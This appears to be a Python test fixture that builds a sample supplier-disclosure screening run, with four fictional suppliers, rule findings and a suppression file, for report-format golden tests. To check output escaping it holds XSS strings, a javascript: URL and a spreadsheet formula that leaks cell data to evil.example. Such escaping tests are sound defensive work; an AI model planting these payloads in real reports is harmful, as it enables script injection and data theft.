"""A deterministic screening run for the report-format tests.

Four suppliers, one per verdict, with every finding status, hostile strings
from "supplier pages" (markup, a javascript: URL, spreadsheet formulas, an XML
control character) and a suppression file with an active, an expired and an
unused entry. Rule metadata comes from a catalogue defined here, so golden
files do not change when the real packs' wording does.
"""

from __future__ import annotations

from datetime import UTC, date, datetime

from reports.model import PackInfo, ScreeningRun, SupplierResult
from reports.render import RuleCatalog
from reports.scoring import SCORE_FORMULA, score, verdict
from reports.suppressions import apply_suppressions, parse_suppressions
from rules.disclosure import PageVisit, SiteDisclosure
from rules.model import Citation, Evidence, Explain, Finding, Rule, Severity, Status
from rules.pack import Pack

AS_OF = date(2026, 11, 23)
GENERATED_AT = datetime(2026, 11, 23, 10, 0, 0, tzinfo=UTC)

HOSTILE_MESSAGE = '<script>alert("owned")</script> footprint missing'
HOSTILE_EXCERPT = '"name": "</span><img src=x onerror=alert(1)>"'
FORMULA_MESSAGE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_NAME = "+Acme Power & <Electronics>"

SUPPRESSIONS_YAML = """\
# accepted findings of the sample run
- rule: MDP-EF-02
  url: "https://lumen.example/products/*"
  reason: Process inputs follow with the 2027 passport (ticket QA-7)
  expires: 2026-12-31
- rule: G7-CFP-02
  url_regex: "https://acme\\\\.example/.*"
  reason: Old waiver
  expires: 2026-01-31
- rule: RCEP-ECO-08
  url: "https://nowhere.example/*"
  reason: Nothing matches this one
  expires: 2027-06-30
"""

_RULES = (
    (
        "G7-CFP-01",
        "g7-gpw",
        Severity.CRITICAL,
        "A product carbon footprint is disclosed",
    ),
    ("G7-CFP-02", "g7-gpw", Severity.HIGH, "The footprint declares ISO 14067"),
    ("G7-ESG-03", "g7-gpw", Severity.HIGH, "The certification issuer is independent"),
    ("G7-ESG-05", "g7-gpw", Severity.CRITICAL, "The certification is verifiable"),
    ("G7-GOV-01", "g7-gpw", Severity.LOW, "Disclosures carry a version and date"),
    (
        "G7-JP-01",
        "g7-gpw",
        Severity.MEDIUM,
        "A water-consumption indicator is disclosed",
    ),
    ("RCEP-SCOPE-01", "rcep-geco", Severity.INFO, "The product's HS code is declared"),
    ("RCEP-ECO-02", "rcep-geco", Severity.CRITICAL, "The JSON-LD expands cleanly"),
    ("MDP-EF-02", "materials-passport", Severity.LOW, "Process inputs are described"),
    ("CORE-FETCH-01", "core", Severity.HIGH, "A page the crawl needed was fetched"),
    ("CORE-JS-01", "core", Severity.LOW, "Disclosures do not need JavaScript"),
)


def _rule(rule_id: str, pack: str, severity: Severity, title: str) -> Rule:
    return Rule(
        id=rule_id,
        pack=pack,
        title=title,
        severity=severity,
        applies_to="product",
        effective=date(2027, 7, 1) if rule_id == "G7-GOV-01" else date(2026, 5, 6),
        status="provisional",
        citation=Citation(
            doc="000_sample.txt", para=3, quote=f"the sentence behind {rule_id}"
        ),
        rationale=f"Why {rule_id} matters.",
        remediation=f"Publish what {rule_id} asks for, as JSON-LD.",
        explain=Explain(why="why", fail_example="{}", pass_example="{}"),
    )


def sample_catalog() -> RuleCatalog:
    """Return the rule catalogue of the sample run."""
    packs = {}
    for rule_id, pack, severity, title in _RULES:
        packs.setdefault(pack, []).append(_rule(rule_id, pack, severity, title))
    return RuleCatalog(
        tuple(
            Pack(
                id=p,
                title=f"{p} pack",
                version="1",
                status="provisional",
                rules=tuple(r),
            )
            for p, r in packs.items()
        )
    )


def _finding(
    rule_id: str,
    status: Status,
    url: str,
    subject: str = "site",
    message: str = "",
    evidence: tuple[Evidence, ...] = (),
) -> Finding:
    _, pack, severity, _ = next(r for r in _RULES if r[0] == rule_id)
    return Finding(
        rule_id=rule_id,
        pack=pack,
        status=status,
        severity=severity,
        message=message or f"{rule_id} is {status.value}",
        url=url,
        subject=subject,
        evidence=evidence,
    )


def _result(site: SiteDisclosure, findings: list[Finding]) -> SupplierResult:
    return SupplierResult(
        site=site,
        findings=tuple(findings),
        verdict=verdict(findings, reachable=site.reachable),
        score=score(findings, reachable=site.reachable),
    )


def _acme() -> SupplierResult:
    home = "https://acme.example/"
    product = "https://acme.example/products/inv-5k.html"
    site = SiteDisclosure(
        supplier_id="acme-power@acme.example",
        name=FORMULA_NAME,
        start_url=home,
        pages=(PageVisit(url=home, status=200), PageVisit(url=product, status=200)),
    )
    return _result(
        site,
        [
            _finding(
                "G7-CFP-01",
                Status.FAIL,
                product,
                "gtin:06970000000011",
                HOSTILE_MESSAGE,
                (
                    Evidence(
                        url=product,
                        pointer="/additionalProperty/1",
                        excerpt=HOSTILE_EXCERPT,
                    ),
                ),
            ),
            _finding(
                "G7-CFP-02",
                Status.FAIL,
                product,
                "gtin:06970000000011",
                FORMULA_MESSAGE,
            ),
            _finding(
                "CORE-JS-01",
                Status.WARN,
                "javascript:alert(1)",
                message="bell \x07 character from the page",
            ),
            _finding("RCEP-ECO-02", Status.PASS, product, "gtin:06970000000011"),
            _finding(
                "G7-GOV-01",
                Status.UPCOMING,
                product,
                "gtin:06970000000011",
                "in force from 2027-07-01; would fail: no version",
            ),
            _finding(
                "G7-JP-01", Status.NOT_APPLICABLE, home, message="profile jp not set"
            ),
        ],
    )


def _sunvolt() -> SupplierResult:
    home = "https://sunvolt.example/"
    product = "https://sunvolt.example/battery.html"
    site = SiteDisclosure(
        supplier_id="sunvolt@sunvolt.example",
        name="Sunvolt Energy Storage",
        start_url=home,
        pages=(PageVisit(url=home, status=200),),
    )
    return _result(
        site,
        [
            _finding("G7-CFP-01", Status.PASS, product, "urn:uuid:b1"),
            _finding(
                "G7-ESG-03",
                Status.FAIL,
                product,
                "urn:uuid:b1",
                "issuer is the supplier itself",
            ),
            _finding(
                "G7-ESG-05",
                Status.ERROR,
                product,
                "urn:uuid:b1",
                "credential timed out",
            ),
            _finding("G7-ESG-05", Status.PASS, product, "urn:uuid:b2"),
            _finding(
                "RCEP-SCOPE-01", Status.WARN, product, "urn:uuid:b1", "no HS code found"
            ),
        ],
    )


def _lumen() -> SupplierResult:
    home = "https://lumen.example/"
    product = "https://lumen.example/products/al-6061.html"
    site = SiteDisclosure(
        supplier_id="lumen@lumen.example",
        name="Lumen Alloys",
        start_url=home,
        pages=(PageVisit(url=home, status=200),),
    )
    return _result(
        site,
        [
            _finding("G7-CFP-01", Status.PASS, product, "gtin:09520123456788"),
            _finding("G7-CFP-02", Status.PASS, product, "gtin:09520123456788"),
            _finding(
                "MDP-EF-02",
                Status.FAIL,
                product,
                "gtin:09520123456788",
                "process inputs not described: fuel types",
            ),
        ],
    )


def _gone() -> SupplierResult:
    home = "http://127.0.0.1:49152/"
    site = SiteDisclosure(
        supplier_id="gone@127.0.0.1:49152",
        name="Gone Fasteners",
        start_url=home,
        pages=(PageVisit(url=home, status=0, error="connection refused"),),
    )
    return _result(
        site,
        [_finding("CORE-FETCH-01", Status.FAIL, home, message="connection refused")],
    )


def sample_run(*, suppressions: bool = True) -> ScreeningRun:
    """Return the sample run (with the sample suppressions applied, by default)."""
    run = ScreeningRun(
        generated_at=GENERATED_AT,
        as_of=AS_OF,
        packs=tuple(
            PackInfo(id=p, title=f"{p} pack", version="1", status="provisional")
            for p in ("core", "g7-gpw", "materials-passport", "rcep-geco")
        ),
        suppliers=(_lumen(), _acme(), _gone(), _sunvolt()),
        tool_version="0.1.0",
        score_formula=SCORE_FORMULA,
    )
    if not suppressions:
        return run
    entries = parse_suppressions(SUPPRESSIONS_YAML, "suppressions.yaml")
    return apply_suppressions(run, entries, "suppressions.yaml")
